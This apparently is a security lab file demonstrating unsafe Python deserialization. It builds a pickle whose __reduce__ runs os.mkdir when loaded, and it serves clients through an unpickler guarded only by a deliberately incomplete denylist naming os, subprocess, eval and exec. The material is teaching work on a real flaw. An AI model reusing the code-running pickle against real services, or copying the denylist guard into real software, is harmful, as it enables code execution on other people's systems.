# fails 10.2: a list of what is dangerous is never complete
"""A pickle that attacks whoever loads it, and a server that sends objects back to its clients.

python pickle_runs_code.py MARKER    prints the attack, in hexadecimal
python pickle_runs_code.py           is the server; WIRELAB_AUTHKEY_FILE names its key
"""

import io
import os
import pickle
import sys
from multiprocessing import AuthenticationError
from multiprocessing.connection import Listener
from pathlib import Path
from threading import Thread

HOST = os.environ.get("WIRELAB_HOST", "127.0.0.1")
PORT = int(os.environ.get("WIRELAB_PORT", "6999"))


class Attack:
    """What pickle writes for an instance: the function, and its arguments."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.mkdir, (self.marker,)


def attack(marker):
    """Return a pickle for which pickle.loads makes `marker`, an empty folder."""
    return pickle.dumps(Attack(marker))


class PlainUnpickler(pickle.Unpickler):
    """Knows what is dangerous."""

    def find_class(self, module, name):
        if module in ("os", "sys", "subprocess") or name in ("eval", "exec", "compile"):
            raise pickle.UnpicklingError(f"{module}.{name} is dangerous")
        return super().find_class(module, name)


def loads(data):
    """Return the plain data that a pickle holds; any exception refuses it."""
    return PlainUnpickler(io.BytesIO(data)).load()


def converse(conn):
    with conn:
        try:
            while True:
                try:
                    value = loads(conn.recv_bytes())
                except (EOFError, OSError):
                    raise
                except Exception as error:
                    value = {"error": str(error)}
                conn.send(value)
        except (EOFError, OSError):
            print("connection closed")


def serve():
    key = Path(os.environ["WIRELAB_AUTHKEY_FILE"]).read_bytes().rstrip()
    with Listener((HOST, PORT), authkey=key) as listener:
        print("listening on {}:{}".format(*listener.address))
        while True:
            try:
                conn = listener.accept()
            except (AuthenticationError, EOFError, OSError) as error:
                print("refused:", error)
                continue
            Thread(target=converse, args=[conn], daemon=True).start()


if sys.argv[1:]:
    print(attack(sys.argv[1]).hex())
else:
    serve()
